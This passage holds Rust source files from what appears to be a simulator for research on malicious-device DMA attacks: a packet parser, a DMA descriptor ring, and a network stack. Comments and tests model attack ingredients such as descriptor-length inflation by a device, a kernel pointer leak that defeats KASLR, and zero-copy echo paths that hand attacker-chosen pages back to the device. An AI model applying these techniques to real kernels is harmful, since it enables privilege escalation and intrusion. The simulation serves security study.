    pub payload: Vec<u8>,
}

/// Size of the serialized header.
pub const HEADER_SIZE: usize = 24;

impl Packet {
    /// Creates a TCP segment.
    pub fn tcp(src: u32, dst: u32, seq: u32, payload: impl Into<Vec<u8>>) -> Self {
        Packet {
            src,
            dst,
            proto: Proto::Tcp { seq },
            payload: payload.into(),
        }
    }

    /// Creates a UDP datagram.
    pub fn udp(src: u32, dst: u32, payload: impl Into<Vec<u8>>) -> Self {
        Packet {
            src,
            dst,
            proto: Proto::Udp,
            payload: payload.into(),
        }
    }

    /// The packet's flow key.
    pub fn flow(&self) -> FlowId {
        let d = match self.proto {
            Proto::Tcp { .. } => 6,
            Proto::Udp => 17,
        };
        (self.src, self.dst, d)
    }

    /// Total wire length.
    pub fn wire_len(&self) -> usize {
        HEADER_SIZE + self.payload.len()
    }

    /// Serializes into wire format.
    pub fn to_wire(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.wire_len());
        out.extend_from_slice(&self.src.to_le_bytes());
        out.extend_from_slice(&self.dst.to_le_bytes());
        let (proto, seq) = match self.proto {
            Proto::Tcp { seq } => (6u32, seq),
            Proto::Udp => (17u32, 0),
        };
        out.extend_from_slice(&proto.to_le_bytes());
        out.extend_from_slice(&seq.to_le_bytes());
        out.extend_from_slice(&(self.payload.len() as u64).to_le_bytes());
        out.extend_from_slice(&self.payload);
        out
    }

    /// Parses wire format; `None` if malformed.
    pub fn from_wire(bytes: &[u8]) -> Option<Packet> {
        if bytes.len() < HEADER_SIZE {
            return None;
        }
        let src = u32::from_le_bytes(bytes[0..4].try_into().ok()?);
        let dst = u32::from_le_bytes(bytes[4..8].try_into().ok()?);
        let proto = u32::from_le_bytes(bytes[8..12].try_into().ok()?);
        let seq = u32::from_le_bytes(bytes[12..16].try_into().ok()?);
        // The length field is attacker-controlled wire data: reject
        // anything the buffer cannot hold without risking overflow in
        // the bound computation.
        let plen = usize::try_from(u64::from_le_bytes(bytes[16..24].try_into().ok()?)).ok()?;
        if plen > bytes.len().checked_sub(HEADER_SIZE)? {
            return None;
        }
        let proto = match proto {
            6 => Proto::Tcp { seq },
            17 => Proto::Udp,
            _ => return None,
        };
        Some(Packet {
            src,
            dst,
            proto,
            payload: bytes[HEADER_SIZE..HEADER_SIZE + plen].to_vec(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wire_roundtrip_tcp() {
        let p = Packet::tcp(1, 2, 1000, b"hello".to_vec());
        let w = p.to_wire();
        assert_eq!(w.len(), HEADER_SIZE + 5);
        assert_eq!(Packet::from_wire(&w).unwrap(), p);
    }

    #[test]
    fn wire_roundtrip_udp() {
        let p = Packet::udp(9, 8, vec![0u8; 100]);
        assert_eq!(Packet::from_wire(&p.to_wire()).unwrap(), p);
    }

    #[test]
    fn flows_distinguish_proto_and_endpoints() {
        assert_ne!(
            Packet::tcp(1, 2, 0, vec![]).flow(),
            Packet::udp(1, 2, vec![]).flow()
        );
        assert_ne!(
            Packet::tcp(1, 2, 0, vec![]).flow(),
            Packet::tcp(1, 3, 0, vec![]).flow()
        );
        assert_eq!(
            Packet::tcp(1, 2, 0, vec![]).flow(),
            Packet::tcp(1, 2, 999, b"x".to_vec()).flow()
        );
    }

    #[test]
    fn malformed_wire_rejected() {
        assert!(Packet::from_wire(&[0u8; 10]).is_none());
        let p = Packet::tcp(1, 2, 0, vec![1, 2, 3]);
        let mut w = p.to_wire();
        w.truncate(w.len() - 1); // short payload
        assert!(Packet::from_wire(&w).is_none());
        let mut w2 = p.to_wire();
        w2[8] = 99; // unknown proto
        assert!(Packet::from_wire(&w2).is_none());
        // A length field near u64::MAX must not overflow the bound check.
        let mut w3 = p.to_wire();
        w3[16..24].copy_from_slice(&u64::MAX.to_le_bytes());
        assert!(Packet::from_wire(&w3).is_none());
        assert!(Packet::from_wire(&[0xff; 97]).is_none());
    }
}
