//! The descriptor ring as *in-memory* state.
//!
//! Real NICs do not receive buffer addresses through a side channel: the
//! driver writes descriptors — `{ IOVA, length, flags }` records — into
//! a DMA-mapped ring in main memory, and the device *DMA-reads* them.
//! This module models that honestly:
//!
//! - the ring is a kmalloc'd array, mapped BIDIRECTIONAL (the device
//!   reads descriptors and writes back completion flags);
//! - each descriptor is 16 bytes: IOVA (8), length (4), flags (4);
//! - the device parses descriptors out of simulated memory through the
//!   IOMMU, exactly as hardware would.
//!
//! Security-wise this is one more OS-metadata-on-a-mapped-page surface:
//! a malicious device can rewrite its *own* descriptors — for example,
//! inflating a buffer length so the driver later reads past the real
//! allocation.

use dma_core::trace::DeviceId;
use dma_core::vuln::DmaDirection;
use dma_core::{DmaError, Iova, Kva, Result, SimCtx};
use sim_iommu::{dma_map_single, DmaMapping, Iommu};
use sim_mem::MemorySystem;

/// Bytes per descriptor.
pub const DESC_SIZE: usize = 16;
/// Flag: descriptor owned by the device (set by the driver on post).
pub const FLAG_DEVICE_OWNED: u32 = 1;
/// Flag: completion written back by the device.
pub const FLAG_DONE: u32 = 2;

/// One parsed descriptor.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Descriptor {
    /// Buffer IOVA.
    pub iova: Iova,
    /// Buffer length.
    pub len: u32,
    /// Ownership/completion flags.
    pub flags: u32,
}

/// A DMA-mapped descriptor ring.
///
/// The producer/consumer cursors (`head`/`tail`) are **free-running**
/// counters, reduced modulo `entries` only when indexing a slot. This is
/// how real drivers (and the kernel's `CIRC_*` helpers) distinguish a
/// full ring from an empty one: with wrapped indices, `head == tail` is
/// ambiguous — it holds both when the ring is empty and when the
/// producer has lapped the consumer. With free-running counters the two
/// states differ: empty is `head == tail`, full is
/// `head - tail == entries`.
#[derive(Clone, Debug)]
pub struct DescRing {
    /// KVA of the ring array.
    pub base: Kva,
    /// The ring's own DMA mapping.
    pub mapping: DmaMapping,
    /// Number of descriptor slots.
    pub entries: usize,
    /// Free-running producer counter (descriptors ever pushed).
    head: u64,
    /// Free-running consumer counter (descriptors ever popped).
    tail: u64,
}

impl DescRing {
    /// Allocates and maps a ring of `entries` descriptors for `dev`.
    pub fn new(
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        dev: DeviceId,
        entries: usize,
    ) -> Result<Self> {
        if entries == 0 {
            return Err(DmaError::InvalidAlloc(0));
        }
        let bytes = entries * DESC_SIZE;
        let base = mem.kzalloc(ctx, bytes, "nic_alloc_desc_ring")?;
        let mapping = dma_map_single(
            ctx,
            iommu,
            &mem.layout,
            dev,
            base,
            bytes,
            DmaDirection::Bidirectional,
            "nic_map_desc_ring",
        )?;
        Ok(DescRing {
            base,
            mapping,
            entries,
            head: 0,
            tail: 0,
        })
    }

    // ------------------------------------------------------------------
    // Cursor API (producer/consumer with full-vs-empty disambiguation).
    // ------------------------------------------------------------------

    /// Number of descriptors currently in the ring.
    pub fn occupancy(&self) -> usize {
        (self.head - self.tail) as usize
    }

    /// True when a `push` would be rejected with `RingFull`.
    pub fn is_full(&self) -> bool {
        self.occupancy() == self.entries
    }

    /// True when a `pop` would be rejected with `RingEmpty`.
    pub fn is_empty(&self) -> bool {
        self.head == self.tail
    }

    /// Slot index the next `push` will write.
    pub fn head_index(&self) -> usize {
        (self.head % self.entries as u64) as usize
    }

    /// Slot index the next `pop` will read.
    pub fn tail_index(&self) -> usize {
        (self.tail % self.entries as u64) as usize
    }

    /// Producer side: posts `d` at the head cursor and advances it.
    /// Returns the slot index used, or `RingFull` when the producer has
    /// lapped the consumer.
    pub fn push(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        d: Descriptor,
    ) -> Result<usize> {
        if self.is_full() {
            return Err(DmaError::RingFull);
        }
        let idx = self.head_index();
        self.post(ctx, mem, idx, d)?;
        self.head += 1;
        ctx.metrics
            .gauge_set("sim_net.ring.occupancy", self.occupancy() as u64);
        Ok(idx)
    }

    /// Consumer side: reads and retires the descriptor at the tail
    /// cursor. Returns `(slot, descriptor)`, or `RingEmpty` when every
    /// pushed descriptor has already been popped.
    pub fn pop(&mut self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<(usize, Descriptor)> {
        if self.is_empty() {
            return Err(DmaError::RingEmpty);
        }
        let idx = self.tail_index();
        let d = self.read_cpu(ctx, mem, idx)?;
        self.tail += 1;
        ctx.metrics
            .gauge_set("sim_net.ring.occupancy", self.occupancy() as u64);
        Ok((idx, d))
    }

    fn slot_kva(&self, idx: usize) -> Kva {
        Kva(self.base.raw() + (idx * DESC_SIZE) as u64)
    }

    /// IOVA of slot `idx` (device side).
    pub fn slot_iova(&self, idx: usize) -> Iova {
        Iova(self.mapping.iova.raw() + (idx * DESC_SIZE) as u64)
    }

    /// Driver side: posts a descriptor into slot `idx` (CPU write into
    /// the mapped ring memory).
    pub fn post(
        &self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        idx: usize,
        d: Descriptor,
    ) -> Result<()> {
        if idx >= self.entries {
            return Err(DmaError::Invariant("descriptor index out of range"));
        }
        let kva = self.slot_kva(idx);
        mem.cpu_write_u64(ctx, kva, d.iova.raw(), "nic_post_desc")?;
        let mut tail = [0u8; 8];
        tail[0..4].copy_from_slice(&d.len.to_le_bytes());
        tail[4..8].copy_from_slice(&d.flags.to_le_bytes());
        mem.cpu_write(ctx, Kva(kva.raw() + 8), &tail, "nic_post_desc")
    }

    /// Driver side: reads a slot back (e.g. to check completion flags).
    pub fn read_cpu(&self, ctx: &mut SimCtx, mem: &MemorySystem, idx: usize) -> Result<Descriptor> {
        if idx >= self.entries {
            return Err(DmaError::Invariant("descriptor index out of range"));
        }
        let kva = self.slot_kva(idx);
        let iova = mem.cpu_read_u64(ctx, kva, "nic_read_desc")?;
        let mut tail = [0u8; 8];
        mem.cpu_read(ctx, Kva(kva.raw() + 8), &mut tail, "nic_read_desc")?;
        Ok(Descriptor {
            iova: Iova(iova),
            len: u32::from_le_bytes(tail[0..4].try_into().expect("4")),
            flags: u32::from_le_bytes(tail[4..8].try_into().expect("4")),
        })
    }

    /// Device side: DMA-reads the descriptor in slot `idx` through the
    /// IOMMU — how hardware actually learns buffer addresses.
    pub fn read_device(
        &self,
        ctx: &mut SimCtx,
        iommu: &mut Iommu,
        mem: &MemorySystem,
        dev: DeviceId,
        idx: usize,
    ) -> Result<Descriptor> {
        if idx >= self.entries {
            return Err(DmaError::Invariant("descriptor index out of range"));
        }
        let mut raw = [0u8; DESC_SIZE];
        iommu.dev_read(ctx, &mem.phys, dev, self.slot_iova(idx), &mut raw)?;
        Ok(Descriptor {
            iova: Iova(u64::from_le_bytes(raw[0..8].try_into().expect("8"))),
            len: u32::from_le_bytes(raw[8..12].try_into().expect("4")),
            flags: u32::from_le_bytes(raw[12..16].try_into().expect("4")),
        })
    }

    /// Device side: writes a completion back into the slot's flags.
    pub fn complete_device(
        &self,
        ctx: &mut SimCtx,
        iommu: &mut Iommu,
        mem: &mut MemorySystem,
        dev: DeviceId,
        idx: usize,
        written: u32,
    ) -> Result<()> {
        if idx >= self.entries {
            return Err(DmaError::Invariant("descriptor index out of range"));
        }
        let slot = self.slot_iova(idx);
        iommu.dev_write(
            ctx,
            &mut mem.phys,
            dev,
            Iova(slot.raw() + 8),
            &written.to_le_bytes(),
        )?;
        iommu.dev_write(
            ctx,
            &mut mem.phys,
            dev,
            Iova(slot.raw() + 12),
            &FLAG_DONE.to_le_bytes(),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    fn setup() -> (SimCtx, MemorySystem, Iommu, DescRing) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(1);
        let ring = DescRing::new(&mut ctx, &mut mem, &mut iommu, 1, 64).unwrap();
        (ctx, mem, iommu, ring)
    }

    #[test]
    fn device_reads_what_the_driver_posted() {
        let (mut ctx, mut mem, mut iommu, ring) = setup();
        let d = Descriptor {
            iova: Iova(0xffff_c000),
            len: 2048,
            flags: FLAG_DEVICE_OWNED,
        };
        ring.post(&mut ctx, &mut mem, 5, d).unwrap();
        let got = ring.read_device(&mut ctx, &mut iommu, &mem, 1, 5).unwrap();
        assert_eq!(got, d);
    }

    #[test]
    fn completion_writeback_reaches_the_driver() {
        let (mut ctx, mut mem, mut iommu, ring) = setup();
        let d = Descriptor {
            iova: Iova(0xffff_c000),
            len: 2048,
            flags: FLAG_DEVICE_OWNED,
        };
        ring.post(&mut ctx, &mut mem, 0, d).unwrap();
        ring.complete_device(&mut ctx, &mut iommu, &mut mem, 1, 0, 1500)
            .unwrap();
        let got = ring.read_cpu(&mut ctx, &mem, 0).unwrap();
        assert_eq!(got.len, 1500);
        assert_eq!(got.flags, FLAG_DONE);
    }

    #[test]
    fn device_can_rewrite_its_own_descriptors() {
        // The attack surface: the ring is OS metadata on a mapped page.
        // A malicious device inflates the posted length; the driver later
        // trusts the descriptor it reads back.
        let (mut ctx, mut mem, mut iommu, ring) = setup();
        let d = Descriptor {
            iova: Iova(0xffff_c000),
            len: 1500,
            flags: FLAG_DEVICE_OWNED,
        };
        ring.post(&mut ctx, &mut mem, 3, d).unwrap();
        let slot = ring.slot_iova(3);
        iommu
            .dev_write(
                &mut ctx,
                &mut mem.phys,
                1,
                Iova(slot.raw() + 8),
                &65535u32.to_le_bytes(),
            )
            .unwrap();
        let got = ring.read_cpu(&mut ctx, &mem, 3).unwrap();
        assert_eq!(got.len, 65535, "driver now believes the inflated length");
    }

    #[test]
    fn out_of_range_slots_rejected() {
        let (mut ctx, mut mem, mut iommu, ring) = setup();
        let d = Descriptor {
            iova: Iova(0),
            len: 0,
            flags: 0,
        };
        assert!(ring.post(&mut ctx, &mut mem, 64, d).is_err());
        assert!(ring.read_cpu(&mut ctx, &mem, 64).is_err());
        assert!(ring.read_device(&mut ctx, &mut iommu, &mem, 1, 64).is_err());
    }

    fn desc(tag: u32) -> Descriptor {
        Descriptor {
            iova: Iova(0xffff_c000 + tag as u64 * 0x1000),
            len: tag,
            flags: FLAG_DEVICE_OWNED,
        }
    }

    fn small_ring(entries: usize) -> (SimCtx, MemorySystem, Iommu, DescRing) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(1);
        let ring = DescRing::new(&mut ctx, &mut mem, &mut iommu, 1, entries).unwrap();
        (ctx, mem, iommu, ring)
    }

    #[test]
    fn push_past_capacity_is_ring_full() {
        let (mut ctx, mut mem, _, mut ring) = small_ring(4);
        for i in 0..4 {
            assert_eq!(ring.push(&mut ctx, &mut mem, desc(i)).unwrap(), i as usize);
        }
        assert!(ring.is_full());
        let err = ring.push(&mut ctx, &mut mem, desc(99)).unwrap_err();
        assert!(matches!(err, DmaError::RingFull));
        // The rejected push must not clobber slot 0.
        let got = ring.read_cpu(&mut ctx, &mem, 0).unwrap();
        assert_eq!(got.len, 0);
    }

    #[test]
    fn pop_on_empty_ring_is_ring_empty() {
        let (mut ctx, mem, _, mut ring) = small_ring(4);
        assert!(ring.is_empty());
        let err = ring.pop(&mut ctx, &mem).unwrap_err();
        assert!(matches!(err, DmaError::RingEmpty));
    }

    #[test]
    fn full_and_empty_are_distinguishable_despite_equal_indices() {
        // The classic ambiguity: after filling a 4-slot ring, head and
        // tail *indices* are both 0 — exactly as when it is empty. The
        // free-running counters must tell the two states apart.
        let (mut ctx, mut mem, _, mut ring) = small_ring(4);
        assert_eq!(ring.head_index(), ring.tail_index());
        assert!(ring.is_empty() && !ring.is_full());
        for i in 0..4 {
            ring.push(&mut ctx, &mut mem, desc(i)).unwrap();
        }
        assert_eq!(ring.head_index(), ring.tail_index());
        assert!(ring.is_full() && !ring.is_empty());
        assert_eq!(ring.occupancy(), 4);
    }

    #[test]
    fn wraparound_preserves_fifo_order() {
        let (mut ctx, mut mem, _, mut ring) = small_ring(4);
        for i in 0..4 {
            ring.push(&mut ctx, &mut mem, desc(i)).unwrap();
        }
        // Drain two, then push two more — these wrap into slots 0 and 1.
        assert_eq!(ring.pop(&mut ctx, &mem).unwrap().1.len, 0);
        assert_eq!(ring.pop(&mut ctx, &mem).unwrap().1.len, 1);
        assert_eq!(ring.push(&mut ctx, &mut mem, desc(4)).unwrap(), 0);
        assert_eq!(ring.push(&mut ctx, &mut mem, desc(5)).unwrap(), 1);
        assert!(ring.is_full());
        // FIFO across the wrap: 2, 3, 4, 5.
        for want in 2..6 {
            let (_, d) = ring.pop(&mut ctx, &mem).unwrap();
            assert_eq!(d.len, want);
        }
        assert!(ring.is_empty());
        assert!(matches!(
            ring.pop(&mut ctx, &mem).unwrap_err(),
            DmaError::RingEmpty
        ));
    }

    #[test]
    fn occupancy_invariant_holds_across_many_wraps() {
        let (mut ctx, mut mem, _, mut ring) = small_ring(3);
        let mut pushed = 0u32;
        let mut popped = 0u32;
        // 10 laps of a 3-slot ring: push two, pop one, drain at the end.
        for _ in 0..30 {
            ring.push(&mut ctx, &mut mem, desc(pushed)).unwrap();
            pushed += 1;
            if ring.is_full() {
                let (_, d) = ring.pop(&mut ctx, &mem).unwrap();
                assert_eq!(d.len, popped);
                popped += 1;
            }
            assert_eq!(ring.occupancy() as u32, pushed - popped);
            assert!(ring.occupancy() <= 3);
        }
        while !ring.is_empty() {
            let (_, d) = ring.pop(&mut ctx, &mem).unwrap();
            assert_eq!(d.len, popped);
            popped += 1;
        }
        assert_eq!(pushed, popped);
    }

    #[test]
    fn foreign_device_cannot_read_the_ring() {
        let (mut ctx, mut mem, mut iommu, ring) = setup();
        iommu.attach_device(2);
        assert!(ring.read_device(&mut ctx, &mut iommu, &mem, 2, 0).is_err());
        let _ = &mut mem;
    }
}
