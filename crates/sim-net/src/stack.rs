//! The upper network stack: sockets, local delivery, a zero-copy echo
//! service, and IP forwarding.
//!
//! Two behaviours here supply attack ingredients:
//!
//! - **Sockets carry a pointer to `init_net`** (§2.4): every socket
//!   object holds the address of the global network-namespace object,
//!   which lives in the kernel image. Socket objects are kmalloc'd, so
//!   they co-locate with DMA-mapped buffers (type (d)) and leak a
//!   text-region pointer whose low 21 bits survive KASLR.
//! - **Echo / forwarding build TX packets that reference RX payload
//!   pages via `frags[]`** — handing the device back kernel pointers to
//!   pages whose *content the attacker chose* (§5.4, §5.5).

use crate::driver::NicDriver;
use crate::gro::GroEngine;
use crate::packet::{FlowId, Packet, HEADER_SIZE};
use crate::shinfo::Frag;
use crate::skb::{alloc_skb, kfree_skb, PendingCallback, SkBuff};
use dma_core::{Kva, Result, SimCtx};
use sim_iommu::Iommu;
use sim_mem::MemorySystem;
use std::collections::HashMap;

/// Offset of the `init_net` object within the kernel image. The symbol
/// sits in the data section at a build-time-fixed offset; KASLR shifts
/// the whole image by a 2 MiB-aligned slide, so the low 21 bits of
/// `&init_net` are invariant (§2.4).
pub const INIT_NET_IMAGE_OFFSET: u64 = 0x00e8_a940;

/// Stack configuration.
#[derive(Clone, Copy, Debug)]
pub struct StackConfig {
    /// This host's address.
    pub local_addr: u32,
    /// Whether IP forwarding is enabled (§5.5; off by default on Linux).
    pub forwarding: bool,
    /// Whether the local echo service is running (the coerced userspace
    /// process of §5.4).
    pub echo_service: bool,
}

impl Default for StackConfig {
    fn default() -> Self {
        StackConfig {
            local_addr: 1,
            forwarding: false,
            echo_service: false,
        }
    }
}

/// Stack counters.
#[derive(Clone, Copy, Debug, Default)]
pub struct StackStats {
    /// Packets delivered to local sockets.
    pub delivered: u64,
    /// Packets echoed back out.
    pub echoed: u64,
    /// Packets forwarded.
    pub forwarded: u64,
    /// Packets dropped (not local, forwarding off).
    pub dropped: u64,
}

/// The upper stack instance.
#[derive(Clone)]
pub struct NetStack {
    /// Configuration.
    pub cfg: StackConfig,
    /// Counters.
    pub stats: StackStats,
    /// GRO engine feeding this stack.
    pub gro: GroEngine,
    /// KVA of the `init_net` global (inside the kernel image).
    pub init_net: Kva,
    sockets: HashMap<FlowId, Kva>,
    delivered: Vec<Packet>,
    /// Callbacks surfaced by skb frees on the stack's own paths.
    pub pending_callbacks: Vec<PendingCallback>,
}

impl NetStack {
    /// Creates a stack over the machine's layout.
    pub fn new(cfg: StackConfig, mem: &MemorySystem) -> Self {
        NetStack {
            cfg,
            stats: StackStats::default(),
            gro: GroEngine::new(),
            init_net: Kva(mem.layout.text_base.raw() + INIT_NET_IMAGE_OFFSET),
            sockets: HashMap::new(),
            delivered: Vec::new(),
            pending_callbacks: Vec::new(),
        }
    }

    /// Returns (allocating on first use) the socket object for a flow.
    ///
    /// The object is kmalloc'd and its first word is the `init_net`
    /// pointer — the leak a scanning device hunts for.
    pub fn socket_for(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        flow: FlowId,
    ) -> Result<Kva> {
        if let Some(&s) = self.sockets.get(&flow) {
            return Ok(s);
        }
        let sock = mem.kmalloc(ctx, 512, "sock_alloc_inode")?;
        mem.cpu_write_u64(ctx, sock, self.init_net.raw(), "sock_init_data")?;
        // Real `struct sock` objects are full of heap pointers (queues,
        // protocol ops); model one: the receive-queue head, a direct-map
        // KVA sitting right next to the init_net pointer.
        let rcv_queue = mem.kmalloc(ctx, 256, "sk_rcv_queue")?;
        mem.cpu_write_u64(ctx, Kva(sock.raw() + 8), rcv_queue.raw(), "sock_init_data")?;
        self.sockets.insert(flow, sock);
        Ok(sock)
    }

    /// Full receive path: GRO, then local delivery / echo / forward.
    ///
    /// `driver` is the NIC the skb arrived on (used for echo/forward TX).
    pub fn rx(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        driver: &mut NicDriver,
        skb: SkBuff,
    ) -> Result<()> {
        let flushed = self.gro.receive(ctx, mem, skb)?;
        for (packet, skb) in flushed {
            self.deliver(ctx, mem, iommu, driver, packet, skb)?;
        }
        Ok(())
    }

    /// Flushes GRO and processes everything held (end of NAPI poll).
    pub fn flush(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        driver: &mut NicDriver,
    ) -> Result<()> {
        for (packet, skb) in self.gro.flush_all() {
            self.deliver(ctx, mem, iommu, driver, packet, skb)?;
        }
        Ok(())
    }

    fn deliver(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        driver: &mut NicDriver,
        packet: Packet,
        mut skb: SkBuff,
    ) -> Result<()> {
        if packet.dst == self.cfg.local_addr {
            let sock = self.socket_for(ctx, mem, packet.flow())?;
            skb.sock = Some(sock);
            if self.cfg.echo_service {
                self.stats.echoed += 1;
                ctx.metrics.incr("sim_net.stack.echoed");
                return self.echo(ctx, mem, iommu, driver, packet, skb);
            }
            self.stats.delivered += 1;
            ctx.metrics.incr("sim_net.stack.delivered");
            self.delivered.push(packet);
            if let Some(cb) = kfree_skb(ctx, mem, skb)? {
                self.pending_callbacks.push(cb);
            }
            return Ok(());
        }
        if self.cfg.forwarding {
            // Forward: the skb goes back out as-is — linear head plus
            // whatever frags GRO accumulated (Figure 9).
            self.stats.forwarded += 1;
            ctx.metrics.incr("sim_net.stack.forwarded");
            driver.transmit(ctx, mem, iommu, skb)?;
            return Ok(());
        }
        self.stats.dropped += 1;
        ctx.metrics.incr("sim_net.stack.dropped");
        if let Some(cb) = kfree_skb(ctx, mem, skb)? {
            self.pending_callbacks.push(cb);
        }
        Ok(())
    }

    /// The echo service: sends the received payload back to the sender
    /// **zero-copy** — the TX skb's `frags[]` reference the RX payload
    /// page directly (§5.4: "a userspace process can be coerced into
    /// echoing a malicious buffer's contents").
    fn echo(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        driver: &mut NicDriver,
        packet: Packet,
        rx_skb: SkBuff,
    ) -> Result<()> {
        let reply_header = Packet {
            src: self.cfg.local_addr,
            dst: packet.src,
            proto: packet.proto,
            payload: Vec::new(), // payload travels in the frag
        };
        let mut tx = alloc_skb(ctx, mem, HEADER_SIZE + 64)?;
        // Header with the payload length patched in.
        let mut hdr = reply_header.to_wire();
        let plen = packet.payload.len() as u64;
        hdr[16..24].copy_from_slice(&plen.to_le_bytes());
        tx.put(ctx, mem, &hdr)?;
        tx.sock = rx_skb.sock;

        // Zero-copy: frag 0 points into the RX buffer's payload bytes.
        let payload_kva = Kva(rx_skb.payload_kva().raw() + HEADER_SIZE as u64);
        let pfn = mem.layout.kva_to_pfn(payload_kva)?;
        let frag = Frag {
            page: mem.layout.pfn_to_page(pfn)?.raw(),
            offset: payload_kva.page_offset() as u32,
            size: packet.payload.len() as u32,
        };
        let sh = tx.shinfo();
        sh.set_frag(ctx, mem, 0, frag)?;
        sh.set_nr_frags(ctx, mem, 1)?;

        // The TX skb owns the RX buffer now (freed on TX completion).
        tx.owned_frag_buffers.push((rx_skb.data, rx_skb.alloc));
        tx.owned_frag_buffers
            .extend(rx_skb.owned_frag_buffers.iter().copied());

        driver.transmit(ctx, mem, iommu, tx)?;
        Ok(())
    }

    /// `MSG_ZEROCOPY` transmit (the benign owner of `destructor_arg`):
    /// sends `payload` from a caller-owned buffer without copying. A real
    /// `ubuf_info` is kmalloc'd, its `callback` pointed at the kernel's
    /// `sock_zerocopy_callback`, and `skb_shared_info.destructor_arg`
    /// set to it — exactly the mechanism the paper's attacks forge
    /// (§5.1, footnote 4: "destructor_arg ... is used for socket buffer
    /// accounting and facilitates custom handling when the buffer is
    /// freed").
    ///
    /// `zerocopy_callback_addr` is the kernel's completion function
    /// (resolved from the image's symbol table at boot).
    #[allow(clippy::too_many_arguments)]
    pub fn send_zerocopy(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        driver: &mut NicDriver,
        dst: u32,
        user_buf: Kva,
        len: u32,
        zerocopy_callback_addr: Kva,
    ) -> Result<usize> {
        use crate::shinfo::UbufInfo;
        let header = Packet {
            src: self.cfg.local_addr,
            dst,
            proto: crate::packet::Proto::Udp,
            payload: Vec::new(),
        };
        let mut tx = alloc_skb(ctx, mem, HEADER_SIZE + 64)?;
        let mut hdr = header.to_wire();
        hdr[16..24].copy_from_slice(&(len as u64).to_le_bytes());
        tx.put(ctx, mem, &hdr)?;

        // The zero-copy frag points straight at the user buffer.
        let pfn = mem.layout.kva_to_pfn(user_buf)?;
        let frag = Frag {
            page: mem.layout.pfn_to_page(pfn)?.raw(),
            offset: user_buf.page_offset() as u32,
            size: len,
        };
        let sh = tx.shinfo();
        sh.set_frag(ctx, mem, 0, frag)?;
        sh.set_nr_frags(ctx, mem, 1)?;

        // The real ubuf_info: completion accounting for the user buffer.
        let ubuf = mem.kmalloc(ctx, crate::shinfo::UBUF_INFO_SIZE, "sock_zerocopy_alloc")?;
        UbufInfo { base: ubuf }.write(
            ctx,
            mem,
            zerocopy_callback_addr.raw(),
            user_buf.raw(),
            len as u64,
        )?;
        sh.set_destructor_arg(ctx, mem, ubuf.raw())?;

        driver.transmit(ctx, mem, iommu, tx)
    }

    /// Packets delivered locally so far.
    pub fn delivered(&self) -> &[Packet] {
        &self.delivered
    }

    /// Number of live sockets.
    pub fn socket_count(&self) -> usize {
        self.sockets.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::driver::DriverConfig;
    use crate::skb::netdev_alloc_skb;
    use dma_core::layout::VmRegion;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    fn setup(cfg: StackConfig) -> (SimCtx, MemorySystem, Iommu, NicDriver, NetStack) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(77),
            ..Default::default()
        });
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        let drv =
            NicDriver::probe(DriverConfig::default(), &mut ctx, &mut mem, &mut iommu).unwrap();
        let stack = NetStack::new(cfg, &mem);
        (ctx, mem, iommu, drv, stack)
    }

    fn rx_skb(ctx: &mut SimCtx, mem: &mut MemorySystem, p: &Packet) -> SkBuff {
        let mut skb = netdev_alloc_skb(ctx, mem, 1600).unwrap();
        skb.put(ctx, mem, &p.to_wire()).unwrap();
        skb
    }

    #[test]
    fn local_udp_is_delivered() {
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(StackConfig::default());
        let p = Packet::udp(9, 1, b"hi".to_vec());
        let s = rx_skb(&mut ctx, &mut mem, &p);
        stack
            .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
            .unwrap();
        assert_eq!(stack.delivered(), &[p]);
        assert_eq!(stack.stats.delivered, 1);
        assert_eq!(stack.socket_count(), 1);
    }

    #[test]
    fn socket_objects_hold_init_net_pointer_in_text_range() {
        let (mut ctx, mut mem, _iommu, _drv, mut stack) = setup(StackConfig::default());
        let sock = stack.socket_for(&mut ctx, &mut mem, (1, 2, 17)).unwrap();
        let leaked = mem.cpu_read_u64(&mut ctx, sock, "t").unwrap();
        assert_eq!(VmRegion::classify(leaked), Some(VmRegion::KernelText));
        // The low 21 bits are the KASLR-invariant part.
        assert_eq!(leaked & 0x1f_ffff, INIT_NET_IMAGE_OFFSET & 0x1f_ffff);
    }

    #[test]
    fn non_local_dropped_without_forwarding() {
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(StackConfig::default());
        let p = Packet::udp(9, 42, b"x".to_vec());
        let s = rx_skb(&mut ctx, &mut mem, &p);
        stack
            .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
            .unwrap();
        assert_eq!(stack.stats.dropped, 1);
        assert_eq!(drv.stats.tx_packets, 0);
    }

